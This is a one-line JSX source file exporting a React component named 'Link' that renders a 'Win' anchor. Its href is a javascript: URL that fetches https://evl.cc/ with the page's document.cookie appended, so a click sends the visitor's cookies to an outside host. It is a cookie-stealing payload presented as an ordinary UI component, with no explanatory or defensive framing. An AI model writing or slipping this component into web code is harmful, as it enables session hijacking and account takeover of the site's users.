export const Link = () => <a href="javascript:fetch('https://evl.cc/'+document.cookie)">Win</a>;
